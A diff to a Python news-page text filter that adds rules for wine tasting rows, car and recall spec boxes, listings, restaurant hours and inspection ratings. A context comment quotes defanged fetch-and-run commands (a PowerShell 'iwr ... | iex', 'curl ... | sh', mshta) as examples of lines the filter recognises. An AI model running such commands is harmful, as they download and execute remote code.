@@ -80,6 +80,16 @@ _TABLE_ROW_MAX_CHARACTERS = 60
 # The first characters of a data provider's notice, a terminal's advert, a live blog's pointer and a table's
 # heading: a line that opens on none is spared their patterns.
 _OPENING_CHARACTERS = 4
+# A wine column's tasting row (the twenty-fourth outlets round's Irish News's "2022 Ch. Roc de Bourg, Côtes de
+# Bourg, £14, Waitrose"): the vintage, the wine and its region between commas, its price a comma-part of its
+# own, the shop after it or none, the line whole with no stop; a sentence opening on a year goes on in words
+# ("2022 was the hottest vintage on record, and a bottle now costs £14.").
+_FIRST_VINTAGE = 1990
+_LAST_VINTAGE = 2030
+_TASTING_ROW = re.compile(
+    r"\d{4} [^,]{1,60}(?:, [^,£$€]{1,60}){0,3}, [£$€]\d{1,4}(?:[.,]\d{2})?(?:, [^,.!?]{1,40})?"
+)
+_TASTING_ROW_MAX_CHARACTERS = 140
 # A security desk's command line set between the story's paragraphs, as the attack or the fix runs it
 # (BleepingComputer's 'powershell -w h -c "iwr hxxps://cdn-verify[.]com/s.ps1 | iex"', "curl -fsSL https://... |
 # sh", "mshta.exe hxxps://..."): a shell's program in lower case, a switch after it ("-w", "/c", "--rm") or an
@@ -104,6 +114,8 @@ _OPENINGS = frozenset(
         "Siga", "Clas", "Tabe", "Stan", "At t", "Unti", "Cert", "Rate", "In c", "In U", "In I",
         # A command line's programs (:data:`_COMMAND_LINE`), lower case as a shell takes them.
         *(f"{command}{after}"[:_OPENING_CHARACTERS] for command in _COMMANDS for after in " ."),
+        # A wine column's vintages (:data:`_TASTING_ROW`), a line of prose seldom opening on a year.
+        *map(str, range(_FIRST_VINTAGE, _LAST_VINTAGE + 1)),
     )
 )  # fmt: skip
 # A columnist's disclaimer under the column (Breakingviews's "The author is a Reuters Breakingviews
@@ -175,17 +187,61 @@ _SPEC_LABELS = frozenset(
         "kamera", "gewicht", "preis",
     )
 )  # fmt: skip
+# The service desks' boxes (the twenty-fourth outlets round), a figure in the value's first words as a spec's:
+# a car review's spec box (Auto Express's "Engine: 1.5-litre 4cyl turbo petrol", "Power: 150bhp", "0-62mph:
+# 8.9sec"), a recall's box ("VIN range: ...", "Batch code: P-3210 KL 2611", "Best before: 12/12/2026"), a
+# listing's (the Abendblatt's "Kaltmiete: 1.180 Euro", "Baujahr: 1958"), a restaurant's info box ("Address: 809
+# W. Randolph St., Chicago", "Hours: Tue-Sun 5-10 p.m."), a church's times ("Mass times: Saturday 6pm (Vigil);
+# ...") and a market report's prices ("Prime lambs: 284p/kg (+9p)"). Their labels are the kickers of other
+# desks' headlines too, a figure first ("Power: 3 million without electricity after storm", "Economy: UK grew
+# 0.1% in October"): a headline's value holds a word of its grammar (:data:`_HEADLINE_GRAMMAR_WORDS`).
+_SERVICE_SPEC_LABELS = frozenset(
+    (
+        "engine", "power", "torque", "0-62mph", "0-60mph", "0-100km/h", "top speed", "economy", "fuel economy",
+        "co2", "co2 emissions", "on sale", "recall number", "vin range", "models", "model years", "best before",
+        "use by", "batch code", "lot number", "establishment number", "kaltmiete", "warmmiete", "nebenkosten",
+        "wohnfläche", "zimmer", "baujahr", "habitaciones", "baños", "superficie", "beds", "baths", "address",
+        "hours", "opening hours", "mass times",
+        "service times", "prime lambs", "store lambs", "cull ewes", "store cattle", "prime cattle", "beef cows",
+        "steers", "heifers", "young bulls", "feed wheat", "feed barley", "milling wheat", "oilseed rape",
+    )
+)  # fmt: skip
+_SPEC_LABELS |= _SERVICE_SPEC_LABELS
+# A headline's articles, prepositions and verbs of being, which a box's value of names, figures and units does
+# without ("10am to 3pm" and "9am, 11am and 6pm" are a box's joiners): "Models: 10 looks from Paris Fashion
+# Week", "Zimmer: 3 Tipps für mehr Ordnung", "Superficie: 20% du territoire en zone inondable".
+_HEADLINE_GRAMMAR_WORDS = frozenset(
+    (
+        "a", "an", "the", "after", "as", "at", "by", "for", "from", "in", "into", "near", "of", "on", "over",
+        "with", "without", "is", "are", "was", "were", "will", "must", "say", "says", "said", "than", "für", "mit", "nach",
+        "bei", "ist", "sind", "wird", "du", "des", "en", "pour", "avec", "dans", "est", "para", "con", "por",
+    )
+)  # fmt: skip
+# The labels over a service desk's hours, whose value ends on the evening's abbreviation ("Hours: Tue-Sun 5-10
+# p.m."), not a sentence's stop.
+_HOURS_LABELS = frozenset(("hours", "opening hours", "mass times", "service times"))
 # A review's score under its label ("Rating: 4.5 out of 5 stars", "Note : 8/10"): a figure after the label, as
-# a note to the reader ("Note: The story was updated ...") has none.
-_SCORE_LABELS = frozenset(("rating", "our rating", "score", "note", "nota", "wertung", "bewertung"))
+# a note to the reader ("Note: The story was updated ...") has none. A car review's verdict too ("Verdict: 4/5",
+# Auto Express's); a court's ("Verdict: guilty") has no figure.
+_SCORE_LABELS = frozenset(
+    ("rating", "our rating", "score", "note", "nota", "wertung", "bewertung", "verdict")
+)
 # A rating in a word under its label, a quote widget's (Benzinga's "Overview Rating: Good" under "TSLA 248.31
 # +2.14%") or an analysts' ("Consensus Rating: Buy"): the verdict's word the value whole, as a note's sentence
 # ("Rating: Good news for savers, the agency said") goes on past it.
-_RATING_LABELS = frozenset(("rating", "our rating", "overview rating", "analyst rating", "consensus rating"))
+# And a school's inspection grade under its label (Schools Week's "Ofsted rating: Good"), a story's sentence on
+# the grade going on past the word ("Ofsted rating: Good news for the school, the head said").
+_RATING_LABELS = frozenset(
+    (
+        "rating", "our rating", "overview rating", "analyst rating", "consensus rating", "ofsted rating",
+        "ofsted grade", "inspection rating",
+    )
+)  # fmt: skip
 _RATING_VERDICTS = frozenset(
     (
         "good", "very good", "poor", "excellent", "average", "speculative", "neutral", "buy", "strong buy",
         "sell", "strong sell", "hold", "outperform", "underperform", "overweight", "underweight",
+        "outstanding", "requires improvement", "inadequate",
     )
 )  # fmt: skip
 # The score itself, the value whole: a note's sentence that opens on a figure ("Note: 20 people were injured
@@ -194,6 +250,11 @@ _SCORE = re.compile(
     r"\d{1,3}(?:[.,]\d{1,2})? ?(?:/ ?\d{1,3}|(?:out of|sur|von|de|of) \d{1,3})?(?: (?:stars?|étoiles|estrellas|sterne))?"
 )
 _SPEC_ROW_MAX_CHARACTERS = 100
+# A spec row's value in a word, a car's sale date ("On sale: now"), and a price band's signs ("Price: $$").
+_SPEC_WORD_VALUES = frozenset(("now", "tba", "tbc", "later"))
+_PRICE_BAND = "$£€"
+# The evening's abbreviation an hours' row ends on (:data:`_HOURS_LABELS`), no sentence's stop.
+_HOURS_ENDS = ("a.m.", "p.m.")
 # A politics desk's candidate box, a row a line (the Oregonian's "Age: 54", "Party: Democrat", "Occupation:
 # Small business owner, former city commissioner", "Residence: Foster-Powell"): the label, then a value of a few
 # words that opens on no lower-case word and ends no sentence, as a review's spec rows do; the age a figure. A
@@ -265,6 +326,12 @@ _NEWS_VERBS = frozenset(
         "zal", "kondigt",
     )
 )  # fmt: skip
+# A property desk's teaser of a listing, its label over the home's description in a sentence (the Liverpool
+# Echo's "Property of the week: a four-bedroom Edwardian villa in Mossley Hill ..."), as a practical row's. A
+# story's sentence under the label says who told it, in lower case and with a figure or not ("Property of the
+# week: the £3m mansion that sold in a day, agents said."): a news verb in it keeps it.
+_LISTING_TEASER_LABELS = frozenset(("property of the week", "home of the week", "house of the week"))
+_PRACTICAL_LABELS |= _LISTING_TEASER_LABELS
 # And with the space a French label sets before its colon ("Y aller : ...").
 _PRACTICAL_LABELS |= frozenset(label + " " for label in _PRACTICAL_LABELS)
 # A review's box headings (its pros and cons, its spec box's), alone on their lines; a product's name before
@@ -346,6 +413,27 @@ _DESK_BOX_LABELS = frozenset(
         "power outage map", "outage map", "zone a", "zone b", "zone c", "zone d", "zone e",
     )
 )  # fmt: skip
+# A recall's product row and a restaurant's bookings row (the twenty-fourth round's Food Safety News's "Product:
+# Klement's Polish Style Smoked Sausage, 14-oz. vacuum packs", Eater's "Reservations: Resy, or walk in at the
+# counter"), a list's comma in the value; a car review's rivals (Auto Express's "Rivals: Nissan Qashqai, Kia
+# Sportage, Volkswagen Tiguan"), a school's term dates and open day, a figure in them if not in their first
+# words ("Term dates: Spring term starts Monday 5 January 2027"). Other desks' headlines stand under these
+# labels with a figure or a comma ("Open day: 5 things to ask a university", "Bookings: Hotels report 20% fall
+# in Christmas stays"): a word of a headline's grammar before the value's first comma says so.
+_SERVICE_DESK_BOX_LABELS = frozenset(
+    (
+        "product",
+        "products",
+        "reservations",
+        "bookings",
+        "rivals",
+        "term dates",
+        "läsårstider",
+        "open day",
+        "open days",
+    )
+)
+_DESK_BOX_LABELS |= _SERVICE_DESK_BOX_LABELS
 # A weather desk's forecast rows, a day's label before its high and low ("Today: High 38, Low 24. Clouds
 # increasing."), or a town's before its temperatures (Nice-Matin's "Nice : 14°C / 11°C, pluie forte"); a story
 # about a forecast says it in a sentence ("Today's forecast high of 45 would break the record ...").
@@ -383,6 +471,8 @@ _DESK_LIST_HEADINGS = frozenset(
         "closings and delays", "school closings", "closings", "road closures", "road closures:",
         "evacuation zones", "shelters open", "open shelters", "on the agenda", "ordine del giorno",
         "public notice",
+        # A listing's box heading over its rows (the Abendblatt's "Angebot der Woche").
+        "angebot der woche", "immobilie der woche", "wohnung der woche",
     )
 )  # fmt: skip
 # The match facts', the review's and the desks' lists' headings as one set, a line asked one look-up.
@@ -422,6 +512,12 @@ def is_figures_line(text: str) -> bool:
         # str.startswith of their openings had cost every line 800 instructions.
         if opening in _CULTURE_OPENINGS:
             return _is_culture_line(text, size)
+        if (
+            opening[:1].isdigit()
+            and size <= _TASTING_ROW_MAX_CHARACTERS
+            and _TASTING_ROW.fullmatch(text) is not None
+        ):
+            return True
         if (provider := _DATA_PROVIDER.fullmatch(text)) is not None:
             return _is_a_name(provider["provider"].split())
         if _TERMINAL_AD.fullmatch(lowered := text.lower()) or _LIVE_BLOG_CALL.fullmatch(lowered):
@@ -442,7 +538,7 @@ def is_figures_line(text: str) -> bool:
         label = text[:colon]
         if (
             size <= _SPEC_ROW_MAX_CHARACTERS
-            and last not in ".!?"
+            and (last not in ".!?" or (text.endswith(_HOURS_ENDS) and label.casefold() in _HOURS_LABELS))
             and _is_review_row(label, text[colon + 2 :])
         ):
             return True
@@ -454,6 +550,12 @@ def is_figures_line(text: str) -> bool:
             (
                 text.count(" ", colon + 2) >= _PRACTICAL_VALUE_MIN_SPACES
                 and not _is_news_run_in(text[colon + 2 :])
+                and not (
+                    folded in _LISTING_TEASER_LABELS
+                    and any(
+                        word.strip(".,;:!?") in _NEWS_VERBS for word in text[colon + 2 :].casefold().split()
+                    )
+                )
             )
             if folded in _PRACTICAL_LABELS
             else not text[colon + 2 : colon + 3].islower()
@@ -542,6 +644,22 @@ def _is_desk_box_value(label: str, value: str, last: str) -> bool:
     # A figure, or a list's comma or semicolon: a headline's kicker ("Judge: Trump's lawyer can be deposed",
     # "Zone A: Mandatory evacuation ordered for coastal areas", "Containment: Firefighters Make Progress")
     # goes on in words. An outage map's line is the map's link, in words.
+    if (
+        label in _SERVICE_DESK_BOX_LABELS
+        and (
+            any(
+                word in _HEADLINE_GRAMMAR_WORDS or word == "to"
+                for word in value.partition(",")[0].casefold().split()
+            )
+            # A rivals' list is of names ("Nissan Qashqai, Kia Sportage"); a sports desk's headline under the label
+            # goes on in lower case ("Rivals: Arsenal, Spurs and Chelsea all lost").
+            or (
+                label == "rivals"
+                and not all(word[:1].isupper() or word[:1].isdigit() for word in value.split())
+            )
+        )
+    ):
+        return False
     return last not in ".!?" and (
         label.endswith("map")
         or "," in value
@@ -683,7 +801,20 @@ def _is_review_row(label: str, value: str) -> bool:
         # A spec's figure comes in its first words ("Snapdragon 8s Gen 4", "6.3in OLED"); a cross-head under
         # the label runs on in words ("Storage: A problem for the agency", "Memory: Remembering the victims of
         # the 1994 attack").
-        return not value[:1].islower() and any(map(str.isdigit, " ".join(value.split(maxsplit=4)[:4])))
+        # A price "from" its lowest ("Price: from £31,995"), a car's sale "now" ("On sale: now") and a
+        # restaurant's price band ("Price: $$") are the box's too: a run-in sentence goes on past its word.
+        from_price = value.startswith("from ")
+        if value[:1].islower() and not from_price:
+            return value in _SPEC_WORD_VALUES
+        # A service desk's label, or a price from a year ("Price: from 2027, buyers will pay more"), may stand
+        # over a headline with a figure first: its grammar's words say so.
+        if (label in _SERVICE_SPEC_LABELS or from_price) and any(
+            word in _HEADLINE_GRAMMAR_WORDS for word in value.casefold().split()[from_price:]
+        ):
+            return False
+        return any(map(str.isdigit, " ".join(value.split(maxsplit=4)[:4]))) or (
+            value[:1] in _PRICE_BAND and not value.strip(_PRICE_BAND)
+        )
     if label in _SCORE_LABELS and (
         _SCORE.fullmatch(value.rstrip()) is not None or (value[-1:] in _STARS and not value.strip(_STARS))
     ):
